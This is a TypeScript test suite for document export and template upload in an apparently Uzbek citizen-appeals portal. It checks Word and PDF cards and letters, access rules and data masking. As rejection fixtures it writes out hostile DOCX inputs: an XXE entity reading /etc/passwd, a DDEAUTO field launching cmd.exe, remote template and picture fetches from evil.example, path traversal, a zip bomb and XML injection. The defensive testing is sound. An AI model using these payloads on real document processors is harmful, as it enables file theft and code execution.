import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeReadings } from "../privacy/reading-log.ts";
import { docxText, docxWith, docxXml } from "../test/docx.ts";
import { download, type Download } from "../test/download.ts";
import { given } from "../test/given.ts";
import type { Answer, Portal } from "../test/people.ts";
import { openPortal } from "../test/portal.ts";

const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const text = "Кўчамизда сув йўқ, ғишт ва ҳашак; oʻt, maʼno № 5.\nIkkinchi qator <w:p>{organizationName}</w:p> & \u0001=1+1";
let portal: Portal;
let to: ReturnType<typeof given>;
/** An appeal with two tasks: one answered by the office's executor, one sent to the district. */
let of: { appeal: number; own: number; sent: number; number: string };
beforeAll(async () => {
  portal = await openPortal();
  to = given(portal);
  const { as } = portal;
  const appeal = await to.registered(
    { text, docNumber: "77-A", pageCnt: 3 },
    {
      lastName: "Ғуломова",
      firstName: "Ҳулкар",
      middleName: "Ўктамовна",
      phone: "907654321",
      address: "Navoiy koʻchasi, 5",
      passportSn: "AC",
      passportNum: "7418529",
    },
  );
  to.ok(await (await as("registrator")).patch("/appeal-actions/send-to-classification", { appeal_id: appeal.id, position_levels_id: 1 }));
  const leader = await as("leader");
  const own = await to.draft(leader, appeal.id, { executorId: await to.userId("executor"), text: "Suvni tiklash" });
  const sent = await to.draft(leader, appeal.id, { organizationsId: await to.organizationId("registrator2"), text: "Yoʻlni taʼmirlash" });
  to.ok(await leader.patch("/appeal-actions/finish-classification-task", { appeal_id: appeal.id }));
  await to.act(await as("executor"), "accept", own.id);
  await to.act(await as("executor"), "answer", own.id, { ...(await to.answerBody("signer")), text: "Сув берилди\nва кафолатланди" });
  await to.act(await as("registrator2"), "register", sent.id, {
    incomingNumber: "9",
    incomingDate: to.today,
    positionLevelsId: await to.postOf("mrg-leader-2"),
  });
  await to.act(await as("mrg-leader-2"), "resolution", sent.id, {
    executorId: await to.userId("executor2"),
    text: "Жойига чиқиб ўрганинг",
  });
  of = { appeal: appeal.id, own: own.id, sent: sent.id, number: appeal.requestNumber };
}, 60_000);
afterAll(() => portal.close());

const ask = (login: string, path: string, language = "UZ"): Promise<Download> =>
  download(portal, login, path, { language, method: /export/.test(path) ? "POST" : "GET" });
const given200 = async (login: string, path: string, language = "UZ"): Promise<Buffer> => {
  const file = await ask(login, path, language);
  expect(file.status, path).toBe(200);
  return file.bytes;
};
const pagesOf = (pdf: Buffer): number => [...pdf.toString("latin1").matchAll(/\/Type \/Page\b(?!s)/g)].length;

describe("the card as Word", () => {
  it("has the appeal, its applicant, tasks and files, each text as it was written", async () => {
    const file = await ask("leader", `/appeals/word-export/${of.appeal}`);

    expect([file.status, file.type]).toEqual([200, word]);
    expect(file.name).toMatch(new RegExp(`^appeal-card_${of.number.replaceAll("/", "-")}_\\d{8}_\\d{6}\\.docx$`));
    const said = docxText(file.bytes);
    for (const part of [
      "Murojaat kartasi",
      "Fargʻona viloyati hokimligi",
      of.number,
      "77-A",
      "Ғуломова Ҳулкар Ўктамовна",
      "907654321",
      "Navoiy koʻchasi, 5",
      "AC7418529",
      "Кўчамизда сув йўқ, ғишт ва ҳашак; oʻt, maʼno № 5.\n",
      "Ikkinchi qator <w:p>{organizationName}</w:p> & =1+1",
      "Suvni tiklash",
      "Yoʻlni taʼmirlash",
    ])
      expect(said).toContain(part);
  });

  it.each([
    ["RU", ["Карточка обращения", "Номер обращения", "Срок исполнения"]],
    ["UK", ["Мурожаат картаси", "Мурожаат рақами", "Ижро муддати"]],
  ])("speaks the caller's language: %s", async (language, parts) => {
    const said = docxText(await given200("leader", `/appeals/word-export/${of.appeal}`, language));

    for (const part of parts) expect(said).toContain(part);
  });

  it("is to be had as PDF as well, of the appeal and of one task", async () => {
    for (const [path, name] of [
      [`/appeals/word-export/${of.appeal}?format=pdf`, "appeal-card"],
      [`/tasks/export-card/${of.own}?format=pdf`, "task-card"],
    ] as const) {
      const file = await ask("leader", path);
      expect([file.status, file.type, file.bytes.subarray(0, 5).toString()]).toEqual([200, "application/pdf", "%PDF-"]);
      expect(file.name).toMatch(new RegExp(`^${name}_.*\\.pdf$`));
      expect(pagesOf(file.bytes)).toBeGreaterThanOrEqual(1);
    }
    expect((await ask("leader", `/appeals/word-export/${of.appeal}?format=exe`)).status).toBe(400);
  });

  it("names the appeal that it is a copy of, and the copies that joined it", async () => {
    const copy = await to.registered({ repeatabilityTypeId: 3, earlierAppealId: of.appeal });
    to.ok(await (await portal.as("registrator")).patch("/appeal-actions/join-duplicate", { appeal_id: copy.id }));

    const cards = [of.appeal, copy.id].map((id) => given200("leader", `/appeals/word-export/${id}`));
    const [first, second] = (await Promise.all(cards)).map(docxText);
    expect(first).toMatch(new RegExp(`Biriktirilgan murojaatlar\\s+${copy.requestNumber}`));
    expect(second).toMatch(new RegExp(`Takroriyligi\\s+Dublikat, ${of.number}`));
  });

  it("repeats the heading of its tasks on the next sheet, and speaks of files where there are some", async () => {
    const registrator = await portal.as("registrator");
    const content = Buffer.from("%PDF-1.7\n").toString("base64");
    const file = to.ok(await registrator.post("/admin/files/upload/base64", { name: "ariza.pdf", content })) as { resourceId: number };
    const { id } = await to.registered({ files: [file.resourceId] });

    const [without, withOne] = [
      await given200("leader", `/appeals/word-export/${of.appeal}`),
      await given200("registrator", `/appeals/word-export/${id}`),
    ];
    expect(docxXml(without).match(/<w:tblHeader\/>/g)).toHaveLength(1);
    expect(docxText(without)).not.toContain("Ilova qilingan fayllar");
    expect(docxText(withOne)).toMatch(/Ilova qilingan fayllar\s+• ariza\.pdf/);
    expect(docxText(await given200("leader", `/tasks/generate-doc?taskId=${of.sent}&type=forwarding-letter&format=word`))).not.toContain(
      "Ilova qilingan fayllar",
    );
  });

  it("of one task has its answers", async () => {
    const said = docxText(await given200("executor", `/tasks/export-card/${of.own}`));

    for (const part of ["Masala kartasi", "Suvni tiklash", "№ 15/7", "Сув берилди\nва кафолатланди", "Ғуломова Ҳулкар Ўктамовна"])
      expect(said).toContain(part);
    expect(said).not.toContain("Yoʻlni taʼmirlash");
  });
});

describe("letters", () => {
  const letter = (task: number, type: string, format = "word") => `/tasks/generate-doc?taskId=${task}&type=${type}&format=${format}`;

  it("the answer goes to the applicant, with number, date, text and signer", async () => {
    const said = docxText(await given200("signer", letter(of.own, "answer-letter")));

    const signer = (await sql<{ name: string }>`select full_name as name from users where login = 'signer'`.execute(portal.db)).rows[0]!
      .name;
    for (const part of [
      `№ 15/7, ${to.today}`,
      "Ғуломова Ҳулкар Ўктамовна",
      `${of.number}-sonli murojaatingiz koʻrib chiqildi`,
      "Сув берилди\nва кафолатланди",
      signer,
      "Fargʻona viloyati hokimligi",
    ])
      expect(said).toContain(part);
  });

  it("the letter that forwards goes to the other organisation", async () => {
    const said = docxText(await given200("leader", letter(of.sent, "forwarding-letter"), "RU"));

    for (const part of [
      "Письмо о направлении обращения",
      `Обращение № ${of.number} (Ғуломова Ҳулкар Ўктамовна)`,
      "Вопрос: Yoʻlni taʼmirlash",
    ])
      expect(said).toContain(part);
    const names = await sql<{
      name: string;
    }>`select o.name_ru as name from users u join organizations o on o.id = u.organization_id where u.login in ('leader', 'registrator2')`.execute(
      portal.db,
    );
    for (const { name } of names.rows) expect(said).toContain(name);
  });

  it("the resolution names who must do it, what and until when", async () => {
    const said = docxText(await given200("leader2", letter(of.sent, "resolution"), "UK"));

    const { rows } = await sql<{ name: string; deadline: string }>`
      select u.full_name as name, to_char(t.deadline, 'DD.MM.YYYY') as deadline from tasks t join users u on u.id = t.executor_id where t.id = ${of.sent}`.execute(
      portal.db,
    );
    for (const part of [
      "Резолюция",
      `${of.number}-сонли мурожаат бўйича`,
      "Жойига чиқиб ўрганинг",
      rows[0]!.name,
      `Бажариш муддати: ${rows[0]!.deadline}`,
    ])
      expect(said).toContain(part);
  });

  it.each([
    ["resolution", "own"],
    ["answer-letter", "sent"],
    ["forwarding-letter", "own"],
  ] as const)("%s of the task %s, of which there is none, is refused", async (type, which) => {
    const reply = await ask("leader", letter(of[which], type));

    expect([reply.status, reply.json().details]).toMatchObject([422, [{ path: "type", problem: "no_such_record" }]]);
  });

  it.each(["answer-letter", "forwarding-letter"])("%s is also PDF", async (type) => {
    const file = await ask("leader", letter(type === "answer-letter" ? of.own : of.sent, type, "pdf"));

    expect([file.status, file.type, file.bytes.subarray(0, 5).toString()]).toEqual([200, "application/pdf", "%PDF-"]);
    expect(file.name).toMatch(new RegExp(`^${type}_.*\\.pdf$`));
  });

  it.each([["type=../../etc"], ["type=blank"], ["type=answer-letter&format=html"], ["type=answer-letter&template=x"], [""]])(
    "%s is no letter",
    async (query) => {
      expect((await ask("leader", `/tasks/generate-doc?taskId=${of.own}&${query}`)).status).toBe(400);
    },
  );
});

describe("the blank", () => {
  it("is one page of PDF, however long the text is", async () => {
    const long = await to.registered({ text: "Ўзбекча узун матн. ".repeat(1000) });
    const lines = await to.registered({ text: "қатор\n".repeat(3000) });

    for (const id of [of.appeal, long.id, lines.id]) {
      const file = await ask("registrator", `/appeals/blank/${id}`);
      expect([file.status, file.type, pagesOf(file.bytes)]).toEqual([200, "application/pdf", 1]);
    }
  });

  it("is Word when asked for", async () => {
    const said = docxText(await given200("registrator", `/appeals/blank/${of.appeal}?format=word`));

    expect(said).toContain("Murojaatni roʻyxatga olish blanki");
    expect(said).toContain("Ғуломова Ҳулкар Ўктамовна");
  });
});

describe("the letter of an appeal that ended without an answer", () => {
  const ended = async (): Promise<{ id: number; requestNumber: string }> => {
    const appeal = await to.registered({ text }, { lastName: "Ғуломова", firstName: "Ҳулкар", middleName: "Ўктамовна" });
    const { id } = await portal.db.selectFrom("result_reasons").select("id").where("code", "=", "withdrawn").executeTakeFirstOrThrow();
    const body = { appeal_id: appeal.id, reasonId: id, text: "Arizachi 5-iyunda oʻzi qaytarib oldi" };
    to.ok(await (await portal.as("leader")).patch("/appeal-actions/terminate", body));
    return appeal;
  };

  it("says what was decided, by which reason, and where to turn to", async () => {
    const { id, requestNumber } = await ended();

    const file = await ask("registrator", `/appeals/closing-letter/${id}`);

    expect([file.status, file.type]).toEqual([200, word]);
    const said = docxText(file.bytes);
    for (const part of [
      "Fargʻona viloyati hokimligi",
      "Ғуломова Ҳулкар Ўктамовна",
      `${requestNumber}-sonli murojaatingiz boʻyicha ${to.today} kuni qaror qabul qilindi: Koʻrib chiqish tugatilgan.`,
      "Asosi: Murojaat chaqirib olingan",
      "Arizachi 5-iyunda oʻzi qaytarib oldi",
      "yuqori turuvchi organga yoki sudga murojaat qilishga haqlisiz",
    ])
      expect(said).toContain(part);
    expect(pagesOf(await given200("registrator", `/appeals/closing-letter/${id}?format=pdf`, "RU"))).toBe(1);
  });

  it("is nobody else's, and of an open appeal there is none", async () => {
    const { id } = await ended();
    for (const login of ["leader2", "registrator3", "admin", "mahalla"])
      expect((await ask(login, `/appeals/closing-letter/${id}`)).status, login).toBe(404);
    expect((await ask("registrator", `/appeals/closing-letter/${of.appeal}`)).status).toBe(422);
    expect((await portal.app.inject({ method: "GET", url: `/api/appeals/closing-letter/${id}` })).statusCode).toBe(401);
  });
});

describe("whose documents they are", () => {
  const doors = () => [
    `/appeals/word-export/${of.appeal}`,
    `/appeals/blank/${of.appeal}`,
    `/tasks/export-card/${of.own}`,
    `/tasks/generate-doc?taskId=${of.own}&type=answer-letter`,
    `/tasks/generate-doc?taskId=${of.own}&type=answer-letter&format=pdf`,
  ];

  it.each(["leader3", "registrator3", "executor3", "far-executor-5", "admin", "mahalla"])("there is none for %s", async (login) => {
    for (const path of doors()) {
      const reply = await ask(login, path);
      expect([reply.status, reply.json().code], path).toEqual([404, "not_found"]);
    }
  });

  it("nor of what is not there, nor for nobody", async () => {
    for (const path of [
      "/appeals/word-export/999999",
      "/appeals/blank/999999",
      "/tasks/export-card/999999",
      "/tasks/generate-doc?taskId=999999&type=resolution",
    ])
      expect((await ask("leader", path)).status, path).toBe(404);
    for (const path of doors())
      expect((await portal.app.inject({ method: /export/.test(path) ? "POST" : "GET", url: `/api${path}` })).statusCode, path).toBe(401);
  });

  it("personal data are masked for who lacks the right, and whole reading is logged", async () => {
    const read = async (login: string): Promise<number> => {
      await writeReadings(portal.db);
      return (
        await sql<{
          n: number;
        }>`select count(*) as n from reading_log l join users u on u.id = l.user_id where u.login = ${login} and l.appeal_id = ${of.appeal}`.execute(
          portal.db,
        )
      ).rows[0]!.n;
    };
    const [masked, whole] = [await read("controller"), await read("leader")];

    const said = docxText(await given200("controller", `/appeals/word-export/${of.appeal}`));
    for (const path of doors()) await given200("leader", path);

    for (const secret of ["907654321", "7418529", "Navoiy"]) expect(said).not.toContain(secret);
    expect(said).toContain("90*****21");
    expect(await read("controller")).toBe(masked);
    expect(await read("leader")).toBe(whole + doors().length);
  });
});

const send = async (login: string, query: string, content: Buffer, name = "namuna.docx"): Promise<Answer> => {
  const form = new FormData();
  form.append("file", new Blob([new Uint8Array(content)]), name);
  const sent = new Response(form);
  const reply = await portal.app.inject({
    method: "POST",
    url: `/api/admin/document-templates?${query}`,
    headers: { authorization: `Bearer ${(await portal.as(login)).token}`, "content-type": sent.headers.get("content-type")! },
    payload: Buffer.from(await sent.arrayBuffer()),
  });
  return { status: reply.statusCode, body: reply.json() };
};

describe("a template of the office's own", () => {
  const query = "name=answer-letter&language=UZ";
  const letter = () => `/tasks/generate-doc?taskId=${of.own}&type=answer-letter`;
  const builtIn = () => given200("admin", `/admin/document-templates/file?${query}`);
  const saying = async (words: string): Promise<Buffer> =>
    docxWith(await builtIn(), {
      "word/document.xml": (xml) => xml.replace("{answerText}", words.replaceAll("&", "&amp;").replaceAll("<", "&lt;")),
    });
  const listed = async () =>
    to
      .ok(await (await portal.as("admin")).get("/admin/document-templates"))
      .find((t: { name: string; language: string }) => t.name === "answer-letter" && t.language === "UZ");

  it("takes the place of the built-in one in its language, until it is taken back", async () => {
    const admin = await portal.as("admin");
    const before = docxText(await given200("signer", letter()));

    const kept = await send("admin", query, await saying("Oʻz shaklimiz: {answerText} ({executor})"), "Bizning namuna.docx");

    expect(kept).toEqual({ status: 200, body: { fileName: "Bizning namuna.docx" } });
    expect(docxText(await given200("signer", letter()))).toContain("Oʻz shaklimiz: Сув берилди\nва кафолатланди (");
    expect(docxText(await given200("signer", letter(), "RU"))).not.toContain("shaklimiz");
    expect(await listed()).toMatchObject({ isReplaced: true, fileName: "Bizning namuna.docx", title: "Javob xati" });
    expect(docxText(await given200("admin", `/admin/document-templates/file?${query}`))).toContain("Oʻz shaklimiz: {answerText}");

    to.ok(await admin.delete(`/admin/document-templates?${query}`));
    expect(docxText(await given200("signer", letter()))).toBe(before);
    expect(await listed()).toMatchObject({ isReplaced: false, fileName: null });
    const { rows } = await sql<{
      action: string;
    }>`select action from audit_log where target = 'document_templates:answer-letter/UZ' order by id`.execute(portal.db);
    expect(rows.map((row) => row.action)).toEqual(["POST /admin/document-templates", "DELETE /admin/document-templates"]);
  });

  it("tells which placeholders there are", async () => {
    const all = to.ok(await (await portal.as("admin")).get("/admin/document-templates")) as { name: string; placeholders: string[] }[];

    expect(all).toHaveLength(21);
    expect(all.find((t) => t.name === "task-card")!.placeholders).toEqual(
      expect.arrayContaining(["requestNumber", "taskText", "answers.answerText", "files.fileName", "withFiles"]),
    );
  });

  it("that names what there is not is refused with every such name, in words", async () => {
    const reply = await send(
      "admin",
      query,
      await saying("{answerText} {password} {#tasks}{token}{/tasks} {answerText.length} {constructor} {1+1} {@answerText}"),
    );

    expect(reply.status).toBe(422);
    expect(reply.body.details.map((d: { path: string }) => d.path).toSorted()).toEqual([
      "1+1",
      "@answerText",
      "answerText.length",
      "constructor",
      "password",
      "tasks",
      "tasks.token",
    ]);
    expect(reply.body.details[0]).toMatchObject({ problem: "unknown_placeholder", message: "Andozada bunday belgi yoʻq" });
    expect(await listed()).toMatchObject({ isReplaced: false });
  });

  it("fills values as text only: no XML, no mark of theirs is read", async () => {
    const dangerous = 'x</w:t></w:r></w:p><w:p><w:r><w:t>INJECTED</w:t></w:r></w:p>{password}{#a}&"';
    await sql`update answers set text = ${dangerous} where task_id = ${of.own}`.execute(portal.db);

    const file = await given200("signer", letter());

    await sql`update answers set text = ${"Сув берилди\nва кафолатланди"} where task_id = ${of.own}`.execute(portal.db);
    expect(docxText(file)).toContain(dangerous);
  });

  it.each<[string, () => Promise<Buffer>, string]>([
    ["no archive", async () => Buffer.from("not a document"), "broken_template"],
    ["an archive of something else", async () => docxWith(await builtIn(), { "word/document.xml": undefined }), "broken_template"],
    ["an open part", () => saying("{#answerText} {answerText}"), "broken_template"],
    ["a half mark", () => saying("{answerText"), "broken_template"],
    ["a page that calls itself a text", async () => docxWith(await builtIn(), { "word/document.xml": "<html>" }), "broken_template"],
    ["an empty text", async () => docxWith(await builtIn(), { "word/document.xml": "" }), "broken_template"],
    [
      "a text that stops in its midst",
      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.slice(0, xml.lastIndexOf("</w:p>")) }),
      "broken_template",
    ],
    [
      "parts that end one another",
      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.replace("</w:r></w:p>", "</w:p></w:r>") }),
      "broken_template",
    ],
    ["styles that are no XML", async () => docxWith(await builtIn(), { "word/styles.xml": "<w:styles a=>b</w:styles" }), "broken_template"],
    ["no way to its text", async () => docxWith(await builtIn(), { "_rels/.rels": undefined }), "broken_template"],
    [
      "a text without a mark",
      async () => docxWith(await builtIn(), { "word/document.xml": (xml) => xml.replace(/\{[^}]*\}/g, "Salom") }),
      "no_placeholder",
    ],
    ["a path outside", async () => docxWith(await builtIn(), { "../../evil.xml": "<a/>" }), "broken_template"],
    ["a bomb", async () => docxWith(await builtIn(), { "word/media/a.xml": Buffer.alloc(40_000_000) }), "broken_template"],
    ["a macro", async () => docxWith(await builtIn(), { "word/vbaProject.bin": "x" }), "active_content"],
    ["an embedded object", async () => docxWith(await builtIn(), { "word/embeddings/a.xlsx": "x" }), "active_content"],
    [
      "an entity",
      async () =>
        docxWith(await builtIn(), {
          "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        }),
      "active_content",
    ],
    [
      "a template fetched from elsewhere",
      async () =>
        docxWith(await builtIn(), {
          "word/_rels/settings.xml.rels":
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }),
      "active_content",
    ],
    [
      "a field that runs a program, in pieces",
      async () =>
        docxWith(await builtIn(), {
          "word/document.xml": (xml) =>
            xml.replace(
              "<w:body>",
              '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
            ),
        }),
      "active_content",
    ],
    [
      "a picture fetched from elsewhere",
      async () =>
        docxWith(await builtIn(), {
          "word/document.xml": (xml) =>
            xml.replace("<w:body>", '<w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/></w:p>'),
        }),
      "active_content",
    ],
  ])("that is or holds %s is refused", async (_what, make, why) => {
    const reply = await send("admin", query, await make());

    expect([reply.status, reply.body.details]).toMatchObject([422, [{ path: "file", problem: why }]]);
    expect(await listed()).toMatchObject({ isReplaced: false });
  });

  it("is looked at and replaced by its administrator only", async () => {
    for (const login of ["leader", "registrator", "supervisor"]) {
      const person = await portal.as(login);
      expect((await person.get("/admin/document-templates")).status, login).toBe(403);
      expect((await person.get(`/admin/document-templates/file?${query}`)).status, login).toBe(403);
      expect((await person.delete(`/admin/document-templates?${query}`)).status, login).toBe(403);
      expect((await send(login, query, Buffer.from("x"))).status, login).toBe(403);
    }
  });

  it.each(["name=answer-letter", "name=../x&language=UZ", "name=answer-letter&language=EN", "name=answer-letter&language=UZ&x=1"])(
    "%s names none",
    async (wrong) => {
      expect((await send("admin", wrong, await builtIn())).status).toBe(400);
      expect((await (await portal.as("admin")).delete(`/admin/document-templates?${wrong}`)).status).toBe(400);
    },
  );
});

describe("the letters of the PDF", () => {
  /** Whether a TrueType font has a letter: its table `cmap`, form 4. */
  const lettersOf = (file: string) => {
    const font = readFileSync(file);
    const tables = font.readUInt16BE(4);
    const entry = Array.from({ length: tables }, (_, i) => 12 + 16 * i).find((at) => font.toString("latin1", at, at + 4) === "cmap")!;
    const cmap = font.readUInt32BE(entry + 8);
    const subtable = Array.from({ length: font.readUInt16BE(cmap + 2) }, (_, i) => cmap + font.readUInt32BE(cmap + 4 + 8 * i + 4)).find(
      (at) => font.readUInt16BE(at) === 4,
    )!;
    const segments = font.readUInt16BE(subtable + 6) / 2;
    return (letter: string): boolean => {
      const code = letter.codePointAt(0)!;
      for (let i = 0; i < segments; i += 1) {
        const end = font.readUInt16BE(subtable + 14 + 2 * i);
        const start = font.readUInt16BE(subtable + 16 + 2 * (segments + i));
        if (code >= start && code <= end) return code !== 0xffff;
      }
      return false;
    };
  };

  it.each(["DejaVuSerif.ttf", "DejaVuSerif-Bold.ttf"])("%s has every one that the three languages write", (file) => {
    const has = lettersOf(fileURLToPath(import.meta.resolve(`dejavu-fonts-ttf/ttf/${file}`)));

    const letters = Array.from("ʻʼўқғҳЎҚҒҲ№«»–—…→•ABCXYZabcxyzАБВЭЮЯабвэюяёЁъьы0123456789");
    expect(letters.filter((letter) => !has(letter))).toEqual([]);
    expect(has("\ue000")).toBe(false);
  });
});
